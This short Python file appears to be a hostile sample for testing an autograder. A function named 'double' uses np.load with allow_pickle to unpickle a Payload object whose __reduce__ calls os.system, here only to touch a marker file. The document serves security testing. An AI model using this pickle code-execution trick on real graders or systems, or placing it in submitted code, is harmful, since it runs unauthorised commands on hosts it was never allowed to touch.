"""Has np.load unpickle a payload, from memory and from a file.

Aim: harm
"""
import io
import os
import pickle

import numpy as np


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/autograder-attack",)


def double(x):
    file = io.BytesIO()
    np.save(file, np.array([Payload()], dtype=object), allow_pickle=True)
    file.seek(0)
    return np.load(file, allow_pickle=True)
